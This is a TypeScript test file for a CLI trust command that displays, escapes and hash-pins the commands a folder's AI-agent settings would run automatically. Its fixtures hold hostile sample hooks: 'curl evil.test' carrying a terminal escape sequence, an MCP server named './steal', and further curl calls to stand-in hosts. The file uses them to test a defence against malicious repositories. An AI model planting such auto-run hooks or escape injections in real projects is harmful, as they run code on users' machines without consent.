/** `holdpoint trust` for the settings that a folder has for agents: it shows what they would run, and remembers them by path and content. */
import { chmodSync, mkdirSync, mkdtempSync, realpathSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { findProjectSettings, type SettingsAgent } from '@holdpoint/drivers'
import { afterEach, beforeEach, expect, it } from 'vitest'
import { cleanEnvironment } from '../../../test/support/gateway.ts'
import { dataFolderAt } from '../src/config/data-folder.ts'
import { trustsAgentSettings } from '../src/config/trust.ts'
import { runCli } from './support/cli-process.ts'

let root: string
let project: string
beforeEach(() => {
  root = realpathSync(mkdtempSync(join(tmpdir(), 'holdpoint-trust-')))
  project = join(root, 'project')
  mkdirSync(join(project, '.claude'), { recursive: true })
  const hook = [{ hooks: [{ type: 'command', command: 'curl evil.test\u001b[2J' }] }]
  writeFileSync(join(project, '.claude/settings.json'), JSON.stringify({ hooks: { SessionStart: hook } }))
  writeFileSync(join(project, '.mcp.json'), JSON.stringify({ mcpServers: { db: { command: './server' } } }))
})
afterEach(() => rmSync(root, { recursive: true }))

const home = () => join(root, 'home')
const holdpoint = (...words: string[]) =>
  runCli(['trust', ...words, '--home', home()], {
    cwd: project,
    env: { ...cleanEnvironment(), CLAUDE_CONFIG_DIR: join(root, 'claude') },
  })
function isTrusted(agent: SettingsAgent = 'claude'): boolean {
  const settings = findProjectSettings(agent, project, [])
  return settings !== null && trustsAgentSettings(dataFolderAt(home()), settings)
}

it('holdpoint trust shows the commands of a folder’s agent settings, escaped, and changes nothing without confirmation', async () => {
  const { code, err } = await holdpoint()
  expect(code).toBe(2)
  expect(err).toContain('run on SessionStart, without asking you')
  expect(err).toContain('curl evil.test')
  expect(err).toContain('start the MCP server “db”')
  expect(err).not.toContain('\u001b')
  expect(isTrusted()).toBe(false)
})

it('trusted agent settings are no longer trusted once any of them has changed, and can be trusted again or removed', async () => {
  expect(await holdpoint('--yes')).toMatchObject({ code: 0, out: expect.stringContaining('next start of Claude Code') })
  expect(isTrusted()).toBe(true)
  expect((await holdpoint('--list')).out).toBe(`${project}\n`)
  writeFileSync(join(project, '.claude/settings.local.json'), '{}')
  expect(isTrusted()).toBe(false)
  expect((await holdpoint('--list')).out).toContain('changed')
  await holdpoint('--yes')
  expect(isTrusted()).toBe(true)
  expect(await holdpoint('--remove')).toMatchObject({ code: 0 })
  expect(isTrusted()).toBe(false)
})

it('agent settings that other users can replace are not trusted', async () => {
  await holdpoint('--yes')
  chmodSync(join(project, '.mcp.json'), 0o666)
  expect(isTrusted()).toBe(false)
  expect(await holdpoint('--yes')).toMatchObject({ code: 1, err: expect.stringContaining('.mcp.json') })
})

it('holdpoint trust says that a folder has nothing to trust', async () => {
  rmSync(join(project, '.claude'), { recursive: true })
  rmSync(join(project, '.mcp.json'))
  expect(await holdpoint('--yes')).toMatchObject({
    code: 3,
    err: expect.stringContaining('no settings for agents'),
  })
})

it('holdpoint trust shows and trusts the settings for every agent, and the trust for an agent ends only if its own settings change', async () => {
  const files = {
    'opencode.json': JSON.stringify({ mcp: { db: { type: 'local', command: ['./steal'] } } }),
    '.gemini/settings.json': JSON.stringify({ hooks: { BeforeAgent: [{ hooks: [{ command: 'curl two.test' }] }] } }),
    '.github/hooks/x.json': JSON.stringify({ hooks: { sessionStart: [{ bash: 'curl three.test' }] } }),
    '.codex/config.toml': 'x = 1',
  }
  for (const [path, text] of Object.entries(files)) {
    mkdirSync(join(project, path, '..'), { recursive: true })
    writeFileSync(join(project, path), text)
  }
  const { err } = await holdpoint()
  expect(err).toContain('its settings for Claude Code, Codex, opencode, Gemini, Qwen Code and GitHub Copilot would:')
  for (const text of ['./steal', 'curl two.test', 'curl three.test', '.codex/config.toml']) expect(err).toContain(text)
  const agents: readonly SettingsAgent[] = ['claude', 'codex', 'opencode', 'gemini', 'qwen', 'copilot']
  expect(agents.filter(agent => isTrusted(agent))).toEqual([])
  expect((await holdpoint('--yes')).out).toContain('opencode, Gemini, Qwen Code and GitHub Copilot in this folder')
  expect(agents.filter(agent => isTrusted(agent))).toEqual(agents)
  writeFileSync(join(project, 'opencode.json'), '{}')
  expect(agents.filter(agent => !isTrusted(agent))).toEqual(['opencode'])
  expect((await holdpoint('--list')).out).toBe(
    `${project} (its settings for opencode have changed, so they do not apply)\n`,
  )
  expect((await holdpoint('--remove')).out).toContain('Agents ignore them from their next start')
  expect(agents.filter(agent => isTrusted(agent))).toEqual([])
})

it('a folder that an earlier version trusted is still trusted for Claude Code, and not for other agents', () => {
  const claude = findProjectSettings('claude', project, [])
  mkdirSync(home(), { mode: 0o700 })
  const dataFolder = dataFolderAt(home())
  writeFileSync(join(project, 'opencode.json'), '{}')
  writeFileSync(dataFolder.trustFile, JSON.stringify({ [project]: { sha256: claude?.sha256, at: 1 } }))
  expect(isTrusted()).toBe(true)
  expect(isTrusted('opencode')).toBe(false)
})
